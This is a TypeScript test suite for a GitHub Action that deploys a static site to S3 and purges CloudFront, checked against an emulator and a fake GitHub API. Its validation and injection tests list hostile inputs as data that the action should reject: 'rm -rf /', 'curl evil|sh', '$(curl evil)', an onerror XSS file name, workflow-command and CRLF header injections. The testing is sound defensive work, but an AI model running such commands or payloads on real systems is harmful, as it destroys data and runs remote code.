// The action as it is committed, run as GitHub's runner runs it, against the embedded cloud.

import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, beforeEach, afterEach, describe, expect, it } from 'vitest'
import { type Emulator, INDEX_DOCUMENTS_FUNCTION, startEmulator } from '../src/emulator/index.ts'
import { openWorkspace, type Step, type Workspace } from './action-step.ts'

let emulator: Emulator
let tokens: Set<string>
let workspace: Workspace
let bucket: string
let buckets = 0
beforeAll(async () => {
  tokens = new Set()
  emulator = await startEmulator({
    cloudFront: { purgeDelaysMs: { regional: 1, edges: [1, 2, 3] } },
    intercept: (_service, { headers }) => {
      tokens.add(headers['x-amz-security-token'] ?? 'none')
      return undefined
    },
  })
})
afterAll(async () => {
  await emulator.close()
  expect(emulator.faults).toEqual([])
})
beforeEach(async () => {
  workspace = await openWorkspace()
  bucket = `site-${++buckets}`
  await emulator.s3.createBucket(bucket)
  emulator.cloudFront.createDistribution({
    bucket,
    defaultRootObject: 'index.html',
    aliases: [`${bucket}.example.com`],
    defaultBehavior: { functions: { viewerRequest: INDEX_DOCUMENTS_FUNCTION } },
  })
})
afterEach(() => workspace.close())

function aws(): Record<string, string> {
  return {
    AWS_ACCESS_KEY_ID: emulator.credentials.accessKeyId,
    AWS_SECRET_ACCESS_KEY: emulator.credentials.secretAccessKey,
    AWS_REGION: emulator.region,
    AWS_ENDPOINT_URL_S3: emulator.s3Url,
    AWS_ENDPOINT_URL_CLOUDFRONT: emulator.cloudFrontUrl,
  }
}

function step(inputs: Record<string, string>, more: Partial<Step> = {}): Step {
  return { with: { source: 'public', bucket, ...inputs }, ...more, env: { ...aws(), ...more.env } }
}

describe('a workflow of s3-sync-action in which only uses: has changed', () => {
  it('deploys, drops the ACL that the bucket refuses, and purges on the next push only what changed', async () => {
    await workspace.write({ 'public/index.html': 'one', 'public/blog/index.html': 'one', 'README.md': 'not the site' })
    const old: Step = {
      with: { args: "--acl public-read --follow-symlinks --delete --size-only --exclude '*.map'" },
      env: { ...aws(), AWS_S3_BUCKET: bucket, SOURCE_DIR: 'public', AWS_S3_ENDPOINT: emulator.s3Url },
    }
    const first = await workspace.run(old)
    expect([first.exitCode, first.outputs['result'], first.outputs['uploaded']]).toEqual([0, 'fresh', '2'])
    expect(first.commands).toHaveLength(2)
    expect(first.commands[0]).toContain('notice title=Freshfront%3A args::Left out of args')
    expect(first.commands[1]).toContain('Uploaded without --acl public-read: the bucket takes no ACLs')

    await workspace.write({ 'public/blog/index.html': 'two' })
    const { outputs, summary, log } = await workspace.run(old)
    expect(outputs).toMatchObject({ changed: 'true', uploaded: '1', removed: '0', stale: '', result: 'fresh' })
    // The function of the distribution was run, so that /blog/ and /blog/index.html are known as one page.
    expect(JSON.parse(outputs['paths'] ?? '')).toEqual(['/blog*'])
    expect(JSON.parse(outputs['invalidation-ids'] ?? '')).toEqual([expect.stringMatching(/^I/)])
    expect(JSON.parse(await readFile(outputs['plan'] ?? '', 'utf8'))).toMatchObject({ result: 'fresh' })
    expect(summary).toContain('1 unchanged stays warm')
    expect(summary).toContain(`href="https&#58;//${bucket}.example.com/blog/"`)
    expect(log).toContain('bucket from AWS_S3_BUCKET')
    expect(withoutMasks(log) + summary).not.toContain(emulator.credentials.secretAccessKey)
  })

  it('deploys the repository where no folder is named, and says so', async () => {
    await workspace.write({ 'index.html': 'one', '.git/config': 'secret' })
    const { commands, outputs } = await workspace.run({
      with: { 'dry-run': 'true' },
      env: { ...aws(), AWS_S3_BUCKET: bucket },
    })
    expect([outputs['result'], outputs['uploaded']]).toEqual(['planned', '1'])
    expect(commands[0]).toContain('the whole repository is deployed')
  })
})

describe('a matrix of shards and the job after it', () => {
  const run = { GITHUB_RUN_ID: '4711', GITHUB_RUN_ATTEMPT: '1' }
  beforeEach(() =>
    workspace.write({ 'public/index.html': 'home', 'public/a.html': 'a', 'public/b.html': 'b', 'public/c.html': 'c' }),
  )

  it('make one release, which a job that is run again joins', async () => {
    const first = await workspace.run(step({ shard: '1/2' }, { env: run }))
    expect([first.exitCode, first.commands]).toEqual([0, []])
    expect(first.outputs).toMatchObject({ changed: 'true', uploaded: '2', release: '4711', result: 'uploaded' })
    expect(first.summary).toContain('### Shard 1/2 of release <code>4711</code>')
    expect(JSON.parse(await readFile(first.outputs['plan'] ?? '', 'utf8'))).toMatchObject({
      releaseName: '4711',
      shard: { index: 1, count: 2 },
      result: 'uploaded',
    })

    const early = await workspace.run(step({ source: '', finish: 'true' }, { env: run }))
    expect([early.exitCode, early.outputs]).toEqual([4, { result: 'failed' }])
    expect(early.commands).toEqual([
      'error title=Freshfront%3A SHARDS_MISSING::Release "4711" cannot be finished: there is no record of shard 2/2.%0AFix: Run the jobs of these shards again, then the one with finish: "Re-run failed jobs" does both.',
    ])

    const again = { ...run, GITHUB_RUN_ATTEMPT: '2' }
    const second = await workspace.run(step({ args: '--shard 2/2' }, { env: again }))
    expect(second.outputs).toMatchObject({ release: '4711', result: 'uploaded' })
    const finished = await workspace.run(step({ source: '', finish: 'true' }, { env: again }))
    expect([finished.exitCode, finished.commands]).toEqual([0, []])
    expect(finished.outputs).toMatchObject({ changed: 'true', uploaded: '4', result: 'fresh' })
    const whole = await workspace.run(step({}, { env: run }))
    expect(whole.outputs).toMatchObject({ changed: 'false', result: 'nothing to do' })
  })

  it('find each other by a name, with the environment of s3-sync-action too', async () => {
    const named = { 'release-name': 'nightly' }
    const old = { ...aws(), AWS_S3_BUCKET: bucket }
    for (const [shard, GITHUB_RUN_ID] of [
      ['1/2', '1'],
      ['2/2', '2'],
    ] as const) {
      const share = await workspace.run({ with: { ...named, source: 'public', shard }, env: { ...old, GITHUB_RUN_ID } })
      expect(share.outputs).toMatchObject({ release: 'nightly', result: 'uploaded' })
    }
    const { exitCode, commands } = await workspace.run({ with: { ...named, finish: 'true' }, env: old })
    expect([exitCode, commands]).toEqual([0, []])
  })
})

function withoutMasks(log: string): string {
  return log.replace(/^::add-mask::.*$/gm, '')
}

describe('the plan of a pull request', () => {
  let gitHub: FakeGitHub
  beforeEach(async () => {
    gitHub = await startGitHub()
    await workspace.write({ 'public/index.html': 'one' })
  })
  afterEach(() => gitHub.close())

  function pullRequestStep(repository = 'octocat/site'): Step {
    const payload = { pull_request: { number: 7, head: { ref: 'x', repo: { full_name: repository } } } }
    return step(
      { 'dry-run': 'true', token: 'ghs_0123456789' },
      { event: { name: 'pull_request', payload }, env: { GITHUB_API_URL: gitHub.url } },
    )
  }

  it('is one comment, changed by the next run, and nothing is written to the bucket', async () => {
    const { outputs, commands } = await workspace.run(pullRequestStep())
    expect([outputs['result'], commands]).toEqual(['planned', []])
    expect(JSON.parse(await readFile(outputs['plan'] ?? '', 'utf8'))).toMatchObject({ formatVersion: 1, local: false })
    await workspace.write({ 'public/second.html': 'two' })
    await workspace.run(pullRequestStep())
    expect(gitHub.comments).toHaveLength(1)
    expect(gitHub.comments[0]?.body).toContain('Would go live: 2 files')
    expect(gitHub.authorization).toEqual(new Set(['Bearer ghs_0123456789']))
    expect((await fetch(`${emulator.s3Url}/${bucket}/index.html`)).status).not.toBe(200)
  })

  it('fails nothing where the token may not write, as in a fork', async () => {
    gitHub.refuses = true
    const { exitCode, commands, summary } = await workspace.run(pullRequestStep('stranger/site'))
    expect(exitCode).toBe(0)
    expect(commands).toEqual([
      expect.stringMatching(/^warning title=Freshfront%3A no comment::The plan is in the job summary/),
    ])
    expect(summary).toContain('Would go live: 1 file')
  })

  it('is skipped in a fork, which gets no credentials', async () => {
    const { with: inputs = {}, event } = pullRequestStep('stranger/site')
    const ended = await workspace.run({ with: inputs, ...(event && { event }), env: { AWS_REGION: 'us-east-1' } })
    expect([ended.exitCode, ended.outputs]).toEqual([0, { result: 'skipped' }])
  })
})

it('sends the session token of a role that was assumed by OIDC', async () => {
  await workspace.write({ 'public/index.html': 'one' })
  tokens.clear()
  await workspace.run(step({ 'dry-run': 'true' }, { env: { AWS_SESSION_TOKEN: 'FwoGZXIvYXdzEXAMPLE' } }))
  expect(tokens).toEqual(new Set(['FwoGZXIvYXdzEXAMPLE']))
})

it('takes nothing that a stranger wrote for a command, an output or markup', async () => {
  const names = [
    '<img src=x onerror=alert(1)>.html',
    'a|b`c`**d**[e](javascript:f).html',
    '##[set-output name=release]evil.html',
    '::error::evil.html',
    'evil\n::set-output name=release::evil.html',
    '@octocat #1 www.evil.example.html',
  ]
  await workspace.write(Object.fromEntries(names.map((name) => [`public/${name}`, 'x'])))
  const release = 'x";$(touch pwned)\nresult=evil\nEOF'
  const { exitCode, commands, outputs, summary } = await workspace.run(step({ release: release.replaceAll('\n', ' ') }))
  expect([exitCode, commands]).toEqual([0, []])
  expect(Object.keys(outputs)).toHaveLength(9)
  expect(outputs['release']).toMatch(/^20\d\d-/)
  // Beside our own tables there is no markup: every bracket, pipe, backtick and star is ours.
  expect(summary).not.toMatch(/<(?!\/?(?:code|a|br|span|pre)\b)|[`[\]]|\*\*d|www\.|evil\.html\|/)
  for (const row of summary.split('\n').filter((line) => line.includes('evil')))
    expect(row.match(/\|/g)).toHaveLength(4)
})

describe('what is wrong with a step is said in one annotation, and ends it', () => {
  it('in the bundle too', async () => {
    const { exitCode, commands, outputs, summary } = await workspace.run(step({ 'dry-run': 'yes' }))
    expect([exitCode, outputs]).toEqual([2, { result: 'failed' }])
    expect(commands).toEqual([
      'error title=Freshfront%3A ARGUMENTS_INVALID::The input dry-run: expected true or false, not "yes".%0AFix: Correct it in the workflow: docs/action.md says what each input takes.',
    ])
    expect(summary).toContain('### Not deployed')
  })

  it.each<[string, Record<string, string>, number, string]>([
    [
      'a number that is none',
      { 'max-paths': 'many' },
      2,
      'the input max-paths: expected a whole number, 1 or more, not "many".',
    ],
    [
      'an amount that is none',
      { 'max-cost': '1e9' },
      2,
      'the input max-cost: expected an amount in US dollars such as 0.50, not "1e9".',
    ],
    [
      'a switch that is a shell command',
      { delete: 'true;rm -rf /' },
      2,
      'The input delete: expected true or false, not "true;rm -rf /".',
    ],
    [
      'a branch name with a command',
      { args: '--release x;curl${IFS}evil|sh' },
      2,
      '";" would mean something to a shell',
    ],
    ['a branch name that inserts', { args: '--release $(curl evil)' }, 2, '"$" would make a shell insert something'],
    ['a branch name that opens a quote', { args: "--release it's" }, 2, "a ' is never closed"],
    ['a branch name that is a flag', { args: '--release --force' }, 2, '--release in args needs a value.'],
    [
      'a value of args',
      { args: '--max-delete few' },
      2,
      '--max-delete in args: expected a whole number, 0 or more, not "few".',
    ],
    [
      'a flag of aws s3 sync that cannot be had',
      { args: '--sse-c AES256' },
      2,
      '--sse-c of aws s3 sync cannot be had in args.',
    ],
    ['a flag that nobody has', { args: '--delet' }, 2, 'There is no flag "--delet".'],
    ['a bucket that is a command', { bucket: 'a"; rm -rf /' }, 2, 'the input bucket: expected a bucket name'],
    ['a prefix that climbs', { prefix: '../other' }, 2, 'A prefix is not a path'],
    ['an id that is a domain', { distribution: 'd1.cloudfront.net' }, 2, 'That is a domain name or a URL; give the id'],
    ['an ACL that there is not', { acl: 'public' }, 2, 'the input acl: expected one of private, public-read'],
    ['an address with a path', { 'verify-url': 'https://example.com/a' }, 2, 'Give it without a path'],
    ['a header with a line break', { 'cache-control': 'a\r\nx-evil: b' }, 2, 'A header takes printable ASCII only.'],
    ['an expression that cannot be read', { ignore: '(' }, 2, 'It cannot be read'],
    [
      'a configuration that is not there',
      { config: '::error::x.json' },
      2,
      'There is no configuration file "::error::x.json".',
    ],
    ['a folder that is not there', { source: '##[error]evil' }, 3, 'There is no folder'],
    [
      'a folder with a line of its own',
      { source: 'x\n::error::evil' },
      2,
      'the input source: expected the folder of the built site',
    ],
    ['a shard past the last one', { shard: '17/16' }, 2, 'The input shard "17/16" is no share of a site.'],
    [
      'a shard that is a command',
      { shard: '1/2;curl evil' },
      2,
      'The input shard "1/2;curl evil" is no share of a site.',
    ],
    ['a shard of args that is none', { args: '--shard 0/4' }, 2, '--shard in args "0/4" is no share of a site.'],
    ['a count where true is meant', { finish: '16' }, 2, 'The input finish: expected true or false, not "16".'],
    [
      'a shard that is the finish too',
      { shard: '1/2', finish: 'true' },
      2,
      'The input shard uploads a share and the input finish ends the release: one run does one of the two.',
    ],
    [
      'a name of a release that has no shards',
      { 'release-name': 'x' },
      2,
      'this is none.%0AFix: Leave it out, or add the input shard',
    ],
    ['a name of a release that climbs', { finish: 'true', 'release-name': '../lock' }, 2, 'cannot be called "../lock"'],
    ['the plan of a shard', { shard: '1/2', 'dry-run': 'true' }, 2, 'There is no plan of a single shard'],
    ['no folder', { source: '' }, 2, 'No folder was named to deploy.%0AFix: Set the input source'],
    ['no bucket', { bucket: '' }, 2, 'No bucket was named.%0AFix: Set the input bucket'],
  ])('%s', async (_, inputs, exitCode, sentence) => {
    const ended = await workspace.runHere(step(inputs))
    expect([ended.exitCode, ended.outputs]).toEqual([exitCode, { result: 'failed' }])
    expect(ended.commands).toEqual([expect.stringContaining(sentence)])
  })

  it('where a shard has no folder, though only the old environment names a bucket', async () => {
    const { exitCode, commands } = await workspace.runHere({
      with: { shard: '1/2' },
      env: { ...aws(), AWS_S3_BUCKET: bucket },
    })
    expect([exitCode, commands]).toEqual([2, [expect.stringContaining('No folder was named to deploy.')]])
  })

  it('is said beside the line, where freshfront.json cannot be read', async () => {
    await workspace.write({ 'freshfront.json': '{\n  "dir": public\n}' })
    const { commands } = await workspace.runHere(step({}))
    expect(commands).toEqual([
      expect.stringMatching(/^error title=Freshfront%3A CONFIG_NOT_JSON,file=freshfront.json,line=2,col=10::/),
    ])
  })
})

interface FakeGitHub {
  readonly url: string
  readonly comments: { id: number; body: string; user: { login: string; type: string } }[]
  readonly authorization: Set<string>
  refuses: boolean
  close(): Promise<void>
}

/** The API of one pull request, for the token of a runner. */
async function startGitHub(): Promise<FakeGitHub> {
  const comments: FakeGitHub['comments'] = []
  const authorization = new Set<string>()
  const server: Server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      authorization.add(request.headers.authorization ?? '')
      const body = chunks.length === 0 ? '' : (JSON.parse(Buffer.concat(chunks).toString()) as { body: string }).body
      const [path] = (request.url ?? '').split('?')
      const known = comments.find(({ id }) => path === `/repos/octocat/site/issues/comments/${id}`)
      const answer = (status: number, content: unknown): void => {
        response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(content))
      }
      if (path === '/user' || gitHub.refuses) answer(403, { message: 'Resource not accessible by integration' })
      else if (request.method === 'PATCH' && known !== undefined) answer(200, (known.body = body))
      else if (path !== '/repos/octocat/site/issues/7/comments') answer(404, {})
      else if (request.method === 'GET') answer(200, comments)
      else
        answer(
          201,
          comments.push({ id: 40 + comments.length, body, user: { login: 'github-actions[bot]', type: 'Bot' } }),
        )
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const gitHub: FakeGitHub = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    comments,
    authorization,
    refuses: false,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  }
  return gitHub
}
